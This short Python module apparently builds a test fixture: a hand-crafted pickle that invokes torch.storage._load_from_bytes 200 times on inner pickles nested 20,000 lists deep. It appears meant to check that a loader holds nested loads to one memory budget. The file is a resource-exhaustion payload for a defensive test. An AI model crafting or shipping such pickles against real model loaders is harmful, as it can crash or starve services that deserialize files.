"""Thousands of files inside, each small, each with the right to a file's memory.

They share the budget of the file that they are in.
"""

from __future__ import annotations

from pathlib import Path

from pickles_by_hand import Called, Raw, opcodes, pickled, write


def build(folder: Path, marker: Path) -> Path:  # noqa: ARG001
    parts = (0x1950A86A20F9469CFC6C, 1001, {}, Raw(b"](" + b"]" * 20_000 + b"e"), [])
    inner = b"".join(map(pickled, parts))
    call = opcodes(Called("torch.storage", "_load_from_bytes", inner))
    return write(folder, pickled(Raw(b"](" + call * 200 + b"e")))
